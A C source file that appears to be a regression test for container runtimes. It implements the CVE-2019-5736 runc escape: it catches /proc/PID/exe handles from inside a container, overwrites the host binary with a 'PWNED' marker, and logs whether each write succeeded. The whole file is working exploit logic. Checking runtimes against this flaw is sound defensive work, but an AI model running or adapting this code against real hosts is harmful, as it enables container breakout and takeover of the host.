/*
 * A hostile container process (CVE-2019-5736): it watches for every new pid of its pid
 * namespace (pids are handed out in order; two threads, one per core of a small host), takes
 * an O_PATH handle on each one's /proc/PID/exe, and once /tmp/stop exists reopens each handle
 * for writing (retrying while the file is still being executed, as an attacker would) and
 * overwrites the file's first bytes. Busybox (the container's own binary) is skipped.
 * Report in /tmp/result: "caught N TARGET", then "wrote TARGET" or "refused TARGET ERRNO".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum { MAX_CAUGHT = 4096, LOOKAHEAD = 3, THREADS = 2 };

static int fds[MAX_CAUGHT];
static char targets[MAX_CAUGHT][256];
static int caught;
static int next_pid;
static volatile int stop;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;

static void *watch(void *arg)
{
	char path[64];
	(void)arg;
	while (!stop) {
		int base = __atomic_load_n(&next_pid, __ATOMIC_RELAXED);
		for (int pid = base; pid < base + LOOKAHEAD; pid++) {
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			char target[256];
			ssize_t n = readlink(path, target, sizeof(target) - 1);
			target[n > 0 ? n : 0] = '\0';
			pthread_mutex_lock(&lock);
			if (caught < MAX_CAUGHT) {
				strcpy(targets[caught], target);
				fds[caught++] = fd;
			} else {
				close(fd);
			}
			pthread_mutex_unlock(&lock);
			int want = pid + 1;
			__atomic_compare_exchange_n(&next_pid, &base, want, 0, __ATOMIC_RELAXED, __ATOMIC_RELAXED);
			break;
		}
	}
	return NULL;
}

int main(void)
{
	pthread_t threads[THREADS];
	char path[64];
	FILE *out;

	next_pid = getpid() + 1;
	for (int i = 0; i < THREADS; i++)
		pthread_create(&threads[i], NULL, watch, NULL);
	while (access("/tmp/stop", F_OK) != 0)
		usleep(1000);
	stop = 1;
	for (int i = 0; i < THREADS; i++)
		pthread_join(threads[i], NULL);
	out = fopen("/tmp/result.tmp", "w");
	if (!out)
		return 1;
	for (int i = 0; i < caught; i++) {
		fprintf(out, "caught %d %s\n", i, targets[i]);
		if (strstr(targets[i], "busybox") || strstr(targets[i], "exe_watcher"))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
		int w = -1;
		/* The last runcs that ran it may still be exiting (ETXTBSY): keep trying for 10 s. */
		for (int tries = 0; tries < 1000; tries++) {
			w = open(path, O_WRONLY);
			if (w >= 0 || errno != ETXTBSY)
				break;
			usleep(10000);
		}
		if (w < 0) {
			fprintf(out, "refused %s %d\n", targets[i], errno);
			continue;
		}
		if (pwrite(w, "PWNED", 5, 0) == 5)
			fprintf(out, "wrote %s\n", targets[i]);
		close(w);
	}
	fclose(out);
	rename("/tmp/result.tmp", "/tmp/result");
	return 0;
}
